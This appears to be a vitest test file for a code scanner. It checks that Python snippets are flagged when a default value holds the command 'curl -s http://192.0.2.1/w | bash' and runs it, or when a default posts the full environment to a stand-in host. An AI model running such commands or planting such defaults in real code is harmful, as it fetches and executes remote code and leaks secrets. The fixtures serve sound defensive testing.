// Commands and names that stand in default values: what is run where nobody gives anything else.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

const COMMAND = 'curl -s http://192.0.2.1/w | bash';

describe('a command as a default', () => {
  it.each([
    [`import os\ndef f(cmd="${COMMAND}"):\n    os.system(cmd)\n`],
    [`import fire, os\nclass C:\n    def run(self, cmd="${COMMAND}"): os.system(cmd)\nfire.Fire(C)\n`],
    [
      `import argparse, subprocess\np = argparse.ArgumentParser()\np.add_argument("--w", default="${COMMAND}")\nsubprocess.run(p.parse_args().w, shell=True)\n`,
    ],
    [
      `import click, subprocess\n@click.command()\n@click.option("--w", default="${COMMAND}")\ndef main(w): subprocess.run(w, shell=True)\n`,
    ],
    [
      `import argparse, os\np = argparse.ArgumentParser()\np.set_defaults(w="${COMMAND}")\nos.system(p.parse_args().w)\n`,
    ],
    [`import os, typer\ndef main(w: str = typer.Option("${COMMAND}")): os.system(w)\n`],
    [`import os\nos.system(os.environ.get("WARMUP", "${COMMAND}"))\n`],
    [
      `import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    cmd: str = "${COMMAND}"\n    def run(self): os.system(self.cmd)\n`,
    ],
    [`import os\nclass A:\n    cmd = "${COMMAND}"\nos.system(A.cmd)\n`],
  ])('is judged as one that is run: %s', async (text) => {
    expect(await verdicts('a.py', text)).toContain('CODE-PIPE-SHELL HIGH');
    expect(await decision('a.py', text.replace(COMMAND, 'curl -s http://192.0.2.1/w > w.json'))).toBe('pass');
  });

  it('is a text like others where no program is started', async () => {
    const text = `import argparse\np = argparse.ArgumentParser()\np.add_argument("--w", default="${COMMAND}")\nprint(p.parse_args().w)\n`;
    expect(await decision('a.py', text)).toBe('pass');
  });

  it('is not what is said about an option', async () => {
    const text = `import argparse, subprocess\np = argparse.ArgumentParser()\np.add_argument("--w", help="Install: ${COMMAND}")\nsubprocess.run(["make"])\n`;
    expect(await decision('a.py', text)).toBe('pass');
  });
});

describe('all variables as a default', () => {
  it.each([
    [
      'import os, requests\ndef send(d=os.environ):\n    requests.post("https://c.example.invalid/", json=dict(d))\n',
    ],
    [
      'import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass R:\n    env: dict = field(default_factory=lambda: dict(os.environ))\n    def push(self): requests.post("https://c.example.invalid/", json=self.env)\n',
    ],
  ])('are sent: %s', async (text) => {
    expect(await verdicts('a.py', text)).toContain('CODE-ENVIRONMENT-SENT CRITICAL');
  });

  it.each([
    [
      'import os, requests\ndef send(name, env=os.environ):\n    requests.post("https://example.com/", json={"stage": env["STAGE"]})\n',
    ],
    ['import os, subprocess\ndef build(env=os.environ):\n    subprocess.run(["make"], env=env)\n'],
  ])('are only looked at: %s', async (text) => {
    expect(await decision('a.py', text)).toBe('pass');
  });
});
